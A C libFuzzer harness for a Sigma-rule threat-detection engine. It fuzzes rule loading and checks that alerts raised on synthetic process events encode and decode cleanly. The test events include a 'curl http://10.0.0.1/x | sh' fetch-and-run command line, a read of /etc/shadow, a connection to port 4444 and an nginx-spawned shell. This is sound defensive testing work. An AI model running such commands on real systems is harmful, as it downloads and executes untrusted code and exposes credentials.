// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * libFuzzer target for the Sigma rule loader (src/sigma_load.c) and, for what loads, the
 * matcher and the correlations (src/sigma_match.c, src/detect.c). Rule files are untrusted
 * input: a directory of rules downloaded from anywhere.
 *
 * Checked: a refused file leaves an error that is a printable line naming the file; a file
 * that loads is matched against events of every kind, each with process fields, and every
 * alert it raises is a valid alert (encodes, decodes back).
 */
#include <assert.h>
#include <errno.h>
#include <stdint.h>
#include <string.h>

#include "detect.h"
#include "json.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static int on_alert(void *ctx, struct pg_event *a)
{
	struct pg_buf b = { 0 };
	struct pg_json_decoder *dec = ctx;
	struct pg_json_error err;
	struct pg_event back;

	assert(a->r.hdr.type == PG_EV_ALERT);
	pg_json_encode(a, &b);
	assert(!b.err);
	assert(pg_json_decode(dec, b.data, b.len, &back, &err) == 0);
	pg_buf__free(&b);
	return 0;
}

static void events(struct pg_detector *d, struct pg_json_decoder *dec)
{
	static const char *const anc[] = { "/usr/sbin/nginx", "/usr/lib/systemd/systemd" };
	static const unsigned int types[] = { PG_EV_EXEC, PG_EV_EXIT,  PG_EV_OPEN,   PG_EV_CONNECT,
					      PG_EV_DNS,  PG_EV_SETID, PG_EV_PTRACE, PG_EV_FORK };
	struct pg_event ev;

	for (unsigned int round = 0; round < 3; round++)
		for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
			pg_event_init(&ev, types[i]);
			ev.r.hdr.ts_ns = 1000000000ULL * (round * 8 + i);
			ev.r.hdr.pid = 100 + round;
			ev.r.hdr.start_ns = 7;
			ev.r.hdr.uid = round ? 0 : 1000;
			strcpy(ev.r.hdr.comm, "sh");
			ev.meta.node = "n1";
			ev.meta.proc.exe = "/bin/sh";
			ev.meta.proc.cmdline = "sh -c curl http://10.0.0.1/x | sh";
			ev.meta.proc.parent_exe = anc[0];
			ev.meta.proc.parent_cmdline = "nginx: worker process";
			ev.meta.proc.ancestors[0] = anc[0];
			ev.meta.proc.ancestors[1] = anc[1];
			ev.meta.proc.nancestors = 2;
			switch (types[i]) {
			case PG_EV_EXEC:
				strcpy(ev.r.exec.path, "/bin/sh");
				memcpy(ev.r.exec.argv, "sh\0-c\0id", 9);
				ev.r.exec.argc = 3;
				ev.r.exec.argv_len = 9;
				break;
			case PG_EV_OPEN:
				strcpy(ev.r.open.path, "/etc/shadow");
				ev.r.open.flags = round == 1 ? 01101 : 0;
				ev.r.open.ret = 3;
				break;
			case PG_EV_CONNECT:
			case PG_EV_DNS:
				ev.r.connect.family = 2;
				ev.r.connect.daddr[0] = 10;
				ev.r.connect.dport = (uint16_t)(4444 + round);
				if (types[i] == PG_EV_DNS) {
					ev.r.dns.flags = 2; /* parsed */
					ev.r.dns.qtype = 16;
					strcpy(ev.r.dns.qname, "x7f3kq9z.example");
				}
				break;
			case PG_EV_SETID:
				ev.r.setid.call = 1;
				break;
			case PG_EV_PTRACE:
				ev.r.ptrace.request = 16;
				break;
			}
			assert(pg_detector__process(d, &ev, on_alert, dec) == 0);
		}
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static struct pg_json_decoder dec;
	struct pg_ruleset *rs = pg_ruleset__new();
	char err[1024];
	int rc;

	if (!rs)
		return 0;
	err[0] = 0;
	rc = pg_ruleset__load_buf(rs, "fuzz.yml", (const char *)data, size, err, sizeof(err));
	if (!rc)
		rc = pg_ruleset__finish(rs, err, sizeof(err));
	if (rc) {
		assert(rc == -EINVAL || rc == -ENOMEM);
		assert(memchr(err, 0, sizeof(err)));
		assert(!strncmp(err, "fuzz.yml", 8));
		for (const char *p = err; *p; p++)
			assert((unsigned char)*p >= 0x20 && (unsigned char)*p < 0x7f);
	} else {
		struct pg_detector *d = pg_detector__new(rs, NULL);

		if (d) {
			events(d, &dec);
			pg_detector__free(d);
		}
	}
	pg_ruleset__free(rs);
	return 0;
}
